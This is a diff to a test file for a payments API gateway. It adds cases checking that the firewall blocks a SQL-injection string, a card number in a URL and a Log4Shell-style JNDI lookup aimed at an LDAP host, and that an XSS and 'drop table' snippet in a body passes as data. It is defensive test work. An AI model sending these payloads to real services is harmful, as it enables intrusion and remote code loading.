@@ -1,6 +1,6 @@
 """Every error that the gateway and its functions can answer here, over HTTP with a real token.
 
-`timeout`, `scope_missing` and `request_blocked` can't be raised by the emulator.
+`timeout` and `scope_missing` can't be raised by the emulator.
 """
 
 import pytest
@@ -73,6 +73,15 @@ CASES: dict[str, Case] = {
     "plain text": Case(415, "media_type_unsupported", headers={"Content-Type": "text/plain"}),
     "no media type": Case(415, "media_type_unsupported", headers={"Content-Type": None}),
     "compressed": Case(415, "media_type_unsupported", headers={"Content-Encoding": "gzip"}),
+    "SQL in a reference": get(
+        "/v1/payments?reference=1'%20or%20'1'%3D'1", 403, "request_blocked", gateway=True
+    ),
+    "a card in the URL": get(
+        f"/v1/payments/{CARD.replace(' ', '-')}", 403, "request_blocked", gateway=True
+    ),
+    "a look-up in a body": Case(
+        403, "request_blocked", but(description="${jndi:ldap://example.com/}"), gateway=True
+    ),
     "page too large": get("/v1/payments?limit=1000000", 400, "parameter_invalid", param="limit"),
     "unknown filter": get("/v1/payments?amount=1", 400, "parameter_unknown", param="amount"),
     "unknown status": get("/v1/payments?status=paid", 400, "parameter_invalid", param="status"),
@@ -95,6 +104,16 @@ def test_each_refusal_is_a_problem(acme: MerchantClient, case: Case) -> None:
     # The id is made by chance, and may hold any digits.
     assert "4242" not in answer.text.replace(request_id, "")
     assert "Bcc" not in answer.text
+
+
+def test_what_the_firewall_only_counts_is_accepted(acme: MerchantClient) -> None:
+    """A callback's URL, HTML and SQL are data in a body, and a back end may have no User-Agent."""
+    body = but(
+        description="<script>alert(1)</script>; drop table",
+        metadata={"callback": "http://203.0.113.7/../done"},
+    )
+    no_agent: dict[str, str | None] = {"User-Agent": ""}
+    assert ask(acme, Case(202, "", body, no_agent)).status_code == 202
 
 
 def test_no_refusal_leaves_a_payment(acme: MerchantClient) -> None:
